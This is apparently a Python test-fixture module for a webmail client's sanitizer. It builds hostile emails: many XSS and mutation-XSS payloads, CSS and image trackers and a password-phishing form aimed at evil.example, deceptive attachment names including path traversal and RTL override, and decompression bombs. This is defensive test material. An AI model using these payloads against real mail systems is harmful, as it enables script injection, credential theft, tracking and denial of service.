# ruff: noqa: E501  # what an attacker writes is written on one line
"""Mail made to do harm, all of it invented here: HTML that runs, loads, moves or hides; parts and names that
lie; sizes that exhaust. ``evil.example`` stands for everywhere that nobody may be sent to."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from datetime import UTC, datetime
from email.utils import format_datetime

from tests.webmail.web_kit import ALICE, DOCTOR

EVIL = "https://evil.example"
_RUN = "top.ran=1;parent.ran=1;alert(1)"

#: Name → HTML of a letter.
PAGES: dict[str, str] = {
    "script": f"<script>{_RUN}</script>",
    "script_src": f"<script src='{EVIL}/a.js'></script>",
    "script_case": f"<ScRiPt>{_RUN}</sCrIpT >",
    "script_broken": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "script_slash": f"<script/x>{_RUN}</script>",
    "script_unclosed": f"<script>{_RUN}",
    "script_nul": f"<scr\0ipt>{_RUN}</scr\0ipt>",
    "module": f"<script type=module>import '{EVIL}/m.js'</script>",
    "onerror": f"<img src=x onerror='{_RUN}'>",
    "onerror_slash": f"<img/src=x/onerror={_RUN}>",
    "onerror_backtick": f"<img src=`x` onerror=`{_RUN}`>",
    "onload_body": f"<body onload='{_RUN}'>x</body>",
    "onfocus": f"<a href='#' autofocus tabindex=0 onfocus='{_RUN}'>x</a>",
    "onpointer": f"<p onpointerover='{_RUN}' style='width:3000px;padding:999px'>x</p>",
    "onanimation": f"<style>@keyframes a{{}}</style><b style='animation-name:a' onanimationstart='{_RUN}'>x</b>",
    "ontoggle": f"<details open ontoggle='{_RUN}'><summary>x</summary></details>",
    "javascript_link": f"<a href='javascript:{_RUN}'>x</a>",
    "javascript_tabs": f"<a href=' ja\tva\nscript:{_RUN}'>x</a>",
    "javascript_entities": "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "javascript_control": f"<a href='\x01javascript:{_RUN}'>x</a>",
    "vbscript_link": "<a href='vbscript:msgbox(1)'>x</a>",
    "data_link": f"<a href='data:text/html,<script>{_RUN}</script>'>x</a>",
    "data_image_svg": f'<img src=\'data:image/svg+xml,<svg onload="{_RUN}" xmlns="http://www.w3.org/2000/svg"/>\'>',
    "user_before_host": "<a href='https://monespacesante.example@evil.example/'>x</a>",
    "relative_link": "<a href='/deconnexion'>x</a><a href='//evil.example/'>y</a><a href='?a'>z</a>",
    "homoglyph": "<a href='https://\u0430meli.example/'>https://ameli.example/</a>",
    "css_import": f"<style>@import url({EVIL}/a.css);</style>x",
    "css_background": f"<div style=\"background:url('{EVIL}/a.png')\">x</div>",
    "css_escaped": f"<div style='background:\\75\\72\\6c({EVIL}/a.png)'>x</div>",
    "css_comment": f"<div style='background:u/**/rl({EVIL}/a.png)'>x</div>",
    "css_image_set": f"<div style='background-image:image-set(\"{EVIL}/a.png\" 1x)'>x</div>",
    "css_selectors": f"<style>p[title^='a']{{background:url({EVIL}/a)}}</style><p title='abc'>x</p>",
    "css_font": f"<style>@font-face{{font-family:f;src:url({EVIL}/f)}}*{{font-family:f}}</style>x",
    "css_var": f"<style>:root{{--u:url({EVIL}/v)}}p{{background:var(--u)}}</style><p style='background:var(--u)'>x</p>",
    "css_expression": f"<div style='width:expression({_RUN})'>x</div>",
    "css_binding": f"<div style='-moz-binding:url({EVIL}/x.xml);behavior:url({EVIL}/x.htc)'>x</div>",
    "css_overlay": "<a href='https://evil.example/' style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x</a>",
    "css_list": f"<ul style='list-style:url({EVIL}/l.png);list-style-image:url({EVIL}/m.png)'><li>x</ul>",
    "css_cursor": f"<p style='cursor:url({EVIL}/c),auto;content:url({EVIL}/d);filter:url({EVIL}/e)'>x</p>",
    "style_in_link": f"<link rel=stylesheet href='{EVIL}/a.css'><link rel=preload as=image href='{EVIL}/p.png'>x",
    "prefetch": f"<link rel=dns-prefetch href='{EVIL}'><link rel=prerender href='{EVIL}'>x",
    "tracker": f"<img src='{EVIL}/pixel.gif' width=1 height=1>",
    "tracker_http": "<img src='http://evil.example/pixel.gif'>",
    "tracker_no_scheme": "<img src='//evil.example/p.gif'>",
    "tracker_srcset": f"<img srcset='{EVIL}/a.png 1x'><picture><source srcset='{EVIL}/b.png'><img></picture>",
    "tracker_old": f"<table background='{EVIL}/t.png'><td background='{EVIL}/u.png'>x</table><input type=image src='{EVIL}/i'>",
    "tracker_lowsrc": f"<img lowsrc='{EVIL}/l' dynsrc='{EVIL}/d' longdesc='{EVIL}/x' alt='a'>",
    "media": f"<video src='{EVIL}/v' poster='{EVIL}/p' autoplay></video><audio src='{EVIL}/a' autoplay></audio><bgsound src='{EVIL}/b'>",
    "track": f"<video><track src='{EVIL}/t' default><source src='{EVIL}/s' onerror='{_RUN}'></video>",
    "svg": f"<svg onload='{_RUN}'><script>{_RUN}</script></svg>",
    "svg_use": f"<svg><use href='{EVIL}/a.svg#x'/><image href='{EVIL}/i.png'/></svg>",
    "svg_animate": f"<svg><a><animate attributeName=href values='javascript:{_RUN}'/><text y=20>x</text></a></svg>",
    "svg_foreign": f"<svg><foreignObject><iframe srcdoc='<script>{_RUN}</script>'></iframe></foreignObject></svg>",
    "math": f"<math><maction actiontype=statusline xlink:href='javascript:{_RUN}'>x</maction></math>",
    "mutation_math": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={_RUN}&gt;'>",
    "mutation_svg": f"<svg></p><style><a id='</style><img src=x onerror={_RUN}>'>",
    "mutation_noscript": f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    "mutation_template": f"<template><img src=x onerror='{_RUN}'></template><div><template shadowrootmode=open><script>{_RUN}</script></template></div>",
    "mutation_textarea": f"<textarea><p title='</textarea><img src=x onerror={_RUN}>'>",
    "mutation_title": f"<title><a title='</title><img src=x onerror={_RUN}>'>",
    "mutation_xmp": f"<xmp><p title='</xmp><img src=x onerror={_RUN}>'></xmp>",
    "mutation_select": f"<select><style></select><img src=x onerror={_RUN}></style>",
    "mutation_comment": f"<!--><img src=x onerror={_RUN}>--><!--!><img src=x onerror={_RUN}>-->",
    "mutation_cdata": f"<svg><![CDATA[><img src=x onerror={_RUN}>]]></svg>",
    "mutation_form": f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>",
    "plaintext": f"x<plaintext><img src=x onerror={_RUN}>",
    "processing": f"<?xml version='1.0'?><?php {_RUN} ?><!DOCTYPE x [<!ENTITY e SYSTEM '{EVIL}/e'>]>&e;x",
    "conditional": f"<!--[if gte mso 9]><script>{_RUN}</script><![endif]--><![if !mso]>x<![endif]>",
    "base": f"<base href='{EVIL}/'><a href='a'>x</a><img src='b.png'>",
    "base_target": "<base target=_top><a href='https://evil.example/'>x</a>",
    "meta_refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/'>x",
    "meta_policy": "<meta http-equiv=Content-Security-Policy content='default-src *'>x<script>alert(1)</script>",
    "meta_cookie": "<meta http-equiv=Set-Cookie content='a=b'>x",
    "form": f"<form action='{EVIL}/' method=post><input name=motdepasse type=password><button>Se connecter</button></form>",
    "form_here": "<form action='/messages/1/corbeille' method=post><button autofocus>x</button></form>",
    "formaction": f"<button formaction='javascript:{_RUN}' form=f>x</button><isindex action='{EVIL}'>",
    "iframe": f"<iframe src='{EVIL}/'></iframe><iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    "frameset": f"<frameset><frame src='{EVIL}/'></frameset>",
    "object": f"<object data='{EVIL}/o' type='text/html'></object><embed src='{EVIL}/e'><applet code=a></applet>",
    "portal": f"<portal src='{EVIL}/'></portal><fencedframe></fencedframe><x-y is=z onclick='{_RUN}'>x</x-y>",
    "ping": f"<a href='https://site.example/' ping='{EVIL}/p' download target=_top>x</a>",
    "dom_names": "<img name=documentElement><form id=body></form><a id=location href='https://evil.example/'>x</a>",
    "nested": "<b><i><u>" * 60 + "x" + "</b></i></u>" * 60,
    "mismatched": "</div></body></html></table><td><tr></p></main></article><h1>x",
    "attribute_break": f"<p title='\"><script>{_RUN}</script>'>x</p><img alt='\"onerror=\"{_RUN}' src=y>",
    "utf7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "overlong": "\ufffdscript\ufffealert(1)",
    "nul_attributes": f"<img\0src=x\0onerror={_RUN}><a h\0ref='javascript:{_RUN}'>x</a>",
    "tags_of_height": "<p style='margin-top:-9999px;line-height:0;font-size:0'>hidden</p><p>seen</p>",
    "cid_loop": "<img src='cid:loop'><iframe src='cid:loop'></iframe>",
}

#: Attachments: (what a sender calls it, media type that he claims, content).
FILES: dict[str, tuple[str, str, bytes]] = {
    "double": ("ordonnance.pdf.exe", "application/pdf", b"MZ\x90\0" + b"\0" * 64),
    "renamed": ("compte-rendu.pdf", "application/pdf", b"MZ\x90\0" + b"\0" * 64),
    "reversed": ("compte\u202efdp.exe", "application/octet-stream", b"MZ\x90\0"),
    "page": ("resultats.html", "text/html", f"<script>{_RUN}</script>".encode()),
    "page_as_image": ("photo.png", "image/png", f"<html><script>{_RUN}</script>".encode()),
    "page_as_pdf": ("lettre.pdf", "application/pdf", f"<script>{_RUN}</script>".encode()),
    "svg": (
        "dessin.svg",
        "image/svg+xml",
        f"<svg xmlns='http://www.w3.org/2000/svg' onload='{_RUN}'/>".encode(),
    ),
    "xml": ("a.xml", "text/xml", b"<?xml version='1.0'?><?xml-stylesheet href='javascript:alert(1)'?><a/>"),
    "path": ("../../../etc/cron.d/x.txt", "text/plain", b"x"),
    "windows_path": ("C:\\Windows\\x.txt", "text/plain", b"x"),
    "quotes": ('a"; filename="b.html', "text/html", b"<p>x"),
    "script_name": ("<img src=x onerror=alert(1)>.txt", "text/plain", b"x"),
    "device": ("CON.pdf", "application/pdf", b"%PDF-1.4\n%%EOF"),
    "dots": ("...", "text/plain", b"x"),
    "long": ("a" * 5000 + ".pdf", "application/pdf", b"%PDF-1.4\n%%EOF"),
    "shortcut": ("facture.lnk", "application/octet-stream", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60),
    "shell": ("readme.txt", "text/plain", b"#!/bin/sh\nrm -r x\n"),
}


def picture_bomb() -> bytes:
    """A PNG of 60,000 by 60,000 points in a few octets of zeros."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", 60_000, 60_000, 1, 0, 0, 0, 0)
    data = zlib.compress(b"\0" * 100_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def zip_bomb() -> bytes:
    """An IHE_XDM whose one document inflates a thousandfold."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("IHE_XDM/SUBSET01/METADATA.XML", b" " * 20_000_000)
        archive.writestr("IHE_XDM/SUBSET01/DOC00001.XML", b" " * 20_000_000)
    return out.getvalue()


def head(subject: str = "Essai", **fields: str) -> list[str]:
    """The head of a message from the doctor to Alice, as lines."""
    return [
        f"From: <{DOCTOR.address}>",
        f"To: <{ALICE.address}>",
        f"Subject: {subject}",
        f"Date: {format_datetime(datetime.now(UTC))}",
        f"Message-ID: <{abs(hash((subject, *fields.items())))}.{datetime.now(UTC).timestamp()}@evil.example>",
        "MIME-Version: 1.0",
        *(f"{name.replace('_', '-')}: {value}" for name, value in fields.items()),
    ]


def html_letter(page: str, subject: str = "Essai", charset: str = "utf-8") -> bytes:
    """A letter that is HTML alone."""
    top = head(subject, Content_Type=f"text/html; charset={charset}", Content_Transfer_Encoding="8bit")
    text = page.replace("\0", "\ufffd") if charset == "utf-8" else page
    return "\r\n".join([*top, "", text.replace("\n", "\r\n"), ""]).encode()


def many_parts(count: int) -> bytes:
    """A letter of that many files."""
    parts = [f'--b\r\nContent-Type: text/plain; name="f{n}.txt"\r\n\r\n{n}\r\n' for n in range(count)]
    return (
        "\r\n".join([*head("Beaucoup", Content_Type='multipart/mixed; boundary="b"'), "", ""])
        + "".join(parts)
        + "--b--\r\n"
    ).encode()


def deep_parts(depth: int) -> bytes:
    """A letter of multiparts within multiparts."""
    lines = [*head("Profond", Content_Type='multipart/mixed; boundary="b0"'), ""]
    for level in range(depth):
        lines += [f"--b{level}", f'Content-Type: multipart/mixed; boundary="b{level + 1}"', ""]
    lines += [f"--b{depth}", "Content-Type: text/plain", "", "au fond", f"--b{depth}--", ""]
    return "\r\n".join(lines).encode()


def nested_messages(depth: int) -> bytes:
    """A letter that brings a letter that brings a letter…"""
    lines = [*head("Poup\u00e9es".encode("ascii", "ignore").decode(), Content_Type="message/rfc822"), ""]
    for level in range(depth):
        lines += [f"Subject: niveau {level}", "Content-Type: message/rfc822", ""]
    lines += ["Subject: fond", "", "au fond", ""]
    return "\r\n".join(lines).encode()
